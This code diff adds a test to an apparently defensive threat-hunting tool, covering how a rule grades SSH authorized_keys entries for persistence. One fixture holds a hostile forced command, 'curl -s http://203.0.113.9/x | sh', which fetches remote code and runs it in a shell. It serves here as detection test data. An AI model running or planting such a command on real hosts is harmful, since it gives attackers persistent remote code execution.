@@ -295,3 +295,26 @@ test("LD_PRELOAD in a process: jemalloc from /usr/lib is normal, a library in a 
   assert.equal(f?.check, "process.suspicious");
   assert.equal(f?.severity, "medium");
 });
+
+test("SSH keys: a new key alone or a backup's forced command alone is silent; together they are low; a forced downloader is high", () => {
+  const key = (over: Partial<import("../../src/collect/hunt/facts.ts").SshKey>) => ({
+    path: "/root/.ssh/authorized_keys",
+    line: 1,
+    user: "root",
+    type: "ssh-ed25519",
+    fingerprint: "SHA256:x",
+    comment: "c",
+    options: "",
+    mtime: "2025-01-01T00:00:00.000Z",
+    ...over,
+  });
+  const run = (k: ReturnType<typeof key>) =>
+    checkHunt(input([], { sshKeys: [k] }), ctx).filter((f) => f.check === "persistence.ssh-key");
+  assert.deepEqual(run(key({ mtime: "2026-11-19T00:00:00.000Z" })), []);
+  assert.deepEqual(run(key({ command: "/usr/bin/rrsync -ro /backup" })), []);
+  assert.equal(
+    run(key({ command: "/usr/bin/rrsync -ro /backup", mtime: "2026-11-19T00:00:00.000Z" }))[0]?.severity,
+    "low",
+  );
+  assert.equal(run(key({ command: "curl -s http://203.0.113.9/x | sh" }))[0]?.severity, "high");
+});
